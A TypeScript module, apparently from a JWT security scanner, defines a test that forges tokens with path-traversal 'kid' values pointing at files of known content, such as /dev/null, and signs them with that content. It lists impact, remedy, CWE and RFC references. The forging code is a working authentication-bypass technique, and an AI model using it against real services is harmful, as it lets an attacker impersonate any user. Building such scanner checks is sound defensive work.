import { assembleWithHmac, readToken } from '../../kit/forge-token.ts'
import { blankKey, unknownKid } from '../../kit/plainer-keys.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

/** Files whose content is known on every Linux: the key that the token is then signed with. */
const files: readonly [path: string, content: string][] = [
  ['/dev/null', ''],
  ['/proc/sys/kernel/randomize_va_space', '2\n'],
]

const prefixes = ['', '../../../../../../../..', 'keys/../../../../../../../..']

export default tokenAttack({
  id: 'token/key-kid-traversal-null',
  rows: ['token.key-kid.traversal-null'],
  title: 'A kid that leads to a file of known content, and a signature made with that content',
  requirement: 'RFC 8725 section 3.10: kid and other received values are validated before they are used',
  impact: 'The attacker chooses the key: anyone becomes any user, and files can be probed.',
  remedy: 'Look keys up in a Map by kid; never build a path from it.',
  severity: 'critical',
  cwe: ['CWE-22', 'CWE-347'],
  references: ['RFC 8725 section 3.10', 'WSTG-SESS-10'],
  provenBy: 'kid-file',
  plainer: ({ victim }) => [...blankKey(victim.token), ...unknownKid(victim.token)],
  forge({ victim }) {
    const { header, payload } = readToken(victim.token)
    return files.flatMap(([path, content]) =>
      prefixes.map((prefix) => ({
        name: `kid ${prefix}${path}`,
        token: assembleWithHmac({ ...header, alg: 'HS256', kid: `${prefix}${path}` }, payload, content),
      })),
    )
  },
})
